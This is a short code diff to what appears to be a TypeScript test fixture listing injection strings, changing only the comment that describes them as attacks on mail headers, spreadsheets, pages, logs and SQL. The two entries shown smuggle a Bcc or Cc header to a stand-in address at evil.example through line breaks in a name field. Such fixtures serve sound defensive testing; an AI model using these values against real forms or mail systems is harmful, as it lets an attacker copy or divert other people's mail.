@@ -1,4 +1,4 @@
-/** Attacks on what is made from an enquiry: mail headers, spreadsheets, pages, logs, SQL. */
+/** Texts that attack what the server makes from an enquiry: mail headers, spreadsheets, pages, log lines, SQL. */
 export const injectionStrings: readonly string[] = [
   'Asha\r\nBcc: thief@evil.example',
   'Asha\nCc: thief@evil.example',
